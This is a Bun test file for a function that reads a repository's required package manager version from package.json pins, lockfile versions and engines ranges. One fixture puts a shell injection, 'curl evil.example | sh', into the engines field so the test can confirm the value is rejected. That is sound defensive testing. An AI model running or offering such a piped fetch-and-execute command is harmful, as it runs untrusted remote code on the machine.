import { afterAll, expect, test } from "bun:test";
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { tempDir } from "../../test/helpers/temp.ts";
import { JobFailure } from "../core/job-failure.ts";
import { packageManagerRequirement } from "./package-manager-requirement.ts";

const root = tempDir("pushpals-pm-requirement-");
afterAll(() => root.cleanup());
let n = 0;
function repo(pkg: unknown, files: Record<string, string> = {}): string {
  const dir = join(root.path, `r${++n}`);
  mkdirSync(dir);
  writeFileSync(join(dir, "package.json"), typeof pkg === "string" ? pkg : JSON.stringify(pkg));
  for (const [name, text] of Object.entries(files)) writeFileSync(join(dir, name), text);
  return dir;
}
const V9 = { "pnpm-lock.yaml": "lockfileVersion: '9.0'\n" };
const HEX = "c".repeat(128);

test("a packageManager pin is exactly that version, with its hash", () => {
  expect(packageManagerRequirement(repo({ packageManager: `pnpm@10.2.0+sha512.${HEX}` }, V9), "pnpm", "pnpm-lock.yaml")).toEqual({
    pm: "pnpm",
    version: "10.2.0",
    exact: true,
    hash: { algorithm: "sha512", hex: HEX },
    source: `packageManager "pnpm@10.2.0+sha512.${HEX.slice(0, 12)}..." in package.json`,
  });
  expect(packageManagerRequirement(repo({ packageManager: "bun@1.2.19", engines: { bun: ">=1.0.0" } }), "bun", "bun.lock")).toMatchObject({ version: "1.2.19", exact: true });
});

test("without a pin: the lockfile's implied range, then engines", () => {
  expect(packageManagerRequirement(repo({}, V9), "pnpm", "pnpm-lock.yaml")).toEqual({ pm: "pnpm", version: ">=9.0.0 <11.0.0", exact: false, hash: null, source: ">=9.0.0 <11.0.0, from pnpm-lock.yaml's lockfileVersion 9.0" });
  // A pin of another package manager says nothing about this one; neither does a bare name.
  expect(packageManagerRequirement(repo({ packageManager: "yarn@4.5.0" }, V9), "pnpm", "pnpm-lock.yaml")?.version).toBe(">=9.0.0 <11.0.0");
  expect(packageManagerRequirement(repo({ packageManager: "pnpm" }, V9), "pnpm", "pnpm-lock.yaml")?.exact).toBe(false);
  expect(packageManagerRequirement(repo({ engines: { bun: ">=1.1.0 <2" } }), "bun", "bun.lock")).toMatchObject({ version: ">=1.1.0 <2", exact: false, source: 'engines.bun ">=1.1.0 <2" in package.json' });
});

test("nothing that says a version is no requirement; an engines value that is not a plain range is ignored", () => {
  expect(packageManagerRequirement(repo({}), "pnpm", null)).toBeNull();
  expect(packageManagerRequirement(repo({}), "npm", "package-lock.json")).toBeNull();
  expect(packageManagerRequirement(repo({ engines: { bun: "1.x; curl evil.example | sh" } }), "bun", "bun.lock")).toBeNull();
  expect(packageManagerRequirement(repo("{ not json"), "bun", "bun.lock")).toBeNull();
  expect(packageManagerRequirement(repo({ packageManager: 42, engines: "x" }), "bun", "bun.lock")).toBeNull();
});

test("a malformed pin of another package manager, or of npm (never provisioned), changes nothing", () => {
  expect(packageManagerRequirement(repo({ packageManager: "yarn@^4" }, V9), "pnpm", "pnpm-lock.yaml")?.version).toBe(">=9.0.0 <11.0.0");
  expect(packageManagerRequirement(repo({ packageManager: "npm@^10" }), "npm", "package-lock.json")).toBeNull();
});

test("a pin that cannot be read fails the job as the repository's to fix, not retried", () => {
  for (const field of ["pnpm@^10", "pnpm@10.2.0+sha512.abc"]) {
    let failure: unknown;
    try {
      packageManagerRequirement(repo({ packageManager: field }, V9), "pnpm", "pnpm-lock.yaml");
    } catch (err) {
      failure = err;
    }
    expect(failure).toBeInstanceOf(JobFailure);
    expect((failure as JobFailure).failureClass).toBe("invalid_input");
    expect((failure as JobFailure).message).toContain(`"packageManager": "${field}" cannot be provisioned`);
    expect((failure as JobFailure).evidence.notRetryable).toBeDefined();
  }
});
